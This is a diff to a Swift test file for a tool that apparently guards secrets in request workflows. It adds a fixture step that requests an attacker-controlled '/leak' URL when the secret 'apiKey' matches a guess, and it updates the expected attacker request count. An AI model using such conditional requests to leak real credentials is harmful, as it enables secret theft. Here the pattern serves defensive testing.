@@ -37,6 +37,9 @@ import VigilTestSupport
               - name: guess
                 GET: "\(attacker)/leak?eq"
                 when: { g: { eq: "{{apiKey}}" } }
+              - name: a whole guess, written
+                GET: "\(attacker)/leak?whole"
+                when: { apiKey: { ne: guess1 } }
             """,
         ]
     }
@@ -62,6 +65,7 @@ import VigilTestSupport
         #expect(run.status == 1, "\(run.all)")
         #expect(run.stdout.contains("not run: when: compares the secret 'apiKey': a comparison's outcome would reveal it"), "\(run.all)")
         #expect(!run.all.contains("IdxSecret123"))
-        #expect(attacker.requestCount == 0)
+        // Equality with a written guess tells only whether the whole secret is that guess: it runs.
+        #expect(attacker.requestCount == 1)
     }
 }
